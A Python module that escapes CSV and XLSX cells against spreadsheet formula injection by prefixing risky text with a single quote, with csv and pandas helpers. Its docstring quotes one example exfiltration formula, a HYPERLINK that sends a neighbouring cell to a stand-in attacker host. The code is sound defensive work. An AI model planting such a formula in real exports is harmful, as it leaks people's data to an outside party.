"""Cells that open safely in a spreadsheet: every CSV and XLSX clinwell writes goes through here.

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula: a roster name such as
``=HYPERLINK("http://evil.example/?x="&A2,"Open")`` in an export would become a live link
that sends the neighbouring cell away (CSV injection). OWASP's rule: prefix such a cell
with a single quote, which spreadsheets show as text and do not evaluate
(https://owasp.org/www-community/attacks/CSV_Injection). A cell that is exactly a number
("-0.25", "+3", "1e-05") is left as it is: it cannot hold a formula, and prefixing it would
turn a negative estimate into text.

No Django here: the CLI, the EHR engine and the web app all use it.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?\Z")


def safe_cell(value: Any) -> Any:
    """``value`` unchanged unless it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.match(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class _Writer(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeWriter:
    """A ``csv.writer`` whose every cell passes :func:`safe_cell`."""

    def __init__(self, stream: _Writer, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame whose text cells pass :func:`safe_cell` (numbers as they
    are), for ``DataFrame.to_csv``."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or str(out[column].dtype).startswith("str"):
            out[column] = out[column].map(safe_cell)
    out.columns = [safe_cell(str(c)) for c in out.columns]
    return out
